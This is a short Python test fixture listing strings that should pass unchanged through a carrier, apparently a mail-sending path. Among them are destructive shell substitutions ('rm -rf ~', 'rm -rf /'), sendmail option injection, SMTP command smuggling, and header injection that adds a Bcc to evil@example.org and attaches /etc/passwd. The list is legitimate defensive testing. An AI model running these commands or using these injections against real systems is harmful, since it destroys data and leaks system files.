"""Texts that must pass unharmed through whatever carries them, and do nothing on the way."""

HARMLESS = [
    "I'll be late",
    'He said "no", it\'s $5 & <b>bold</b>',
    "🦊 größer — naïve 日本語",
    "one\ntwo\n\n.\n..three\nFrom me",
    "$(rm -rf ~)",
    "`reboot`; rm -rf / #",
    "--help",
    "-oQ/tmp -X/tmp/log",
    "\n.\nQUIT\r\nDATA",
    "x" * 5000,
    "%0ABcc: evil@example.org&attach=/etc/passwd",
    "',attachment='/etc/passwd",
]
